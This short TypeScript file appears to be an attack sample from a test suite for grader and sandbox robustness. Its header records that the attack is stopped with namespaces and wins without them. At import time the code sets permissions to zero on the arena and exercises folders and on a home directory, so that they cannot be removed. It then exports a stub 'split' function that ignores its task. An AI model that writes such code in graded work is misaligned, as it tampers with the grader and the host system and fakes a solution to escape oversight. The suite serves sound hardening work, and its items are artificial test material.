// Exercise: 03
// File: split.ts
// Task: 1
// Class: changes the grader
// Attack: Takes all rights from the folders of its tree, so that they cannot be removed.
// Verdict: failed
// With namespaces: stopped
// Without namespaces: wins

import { chmodSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

for (const folder of [join(process.cwd(), 'src/arena'), join(process.cwd(), 'exercises'), join(tmpdir(), '..', 'home')])
  try {
    chmodSync(folder, 0);
  } catch {
    // It may not.
  }

export const split = (n: number, _parts: number) => [{ from: 0, to: n }];
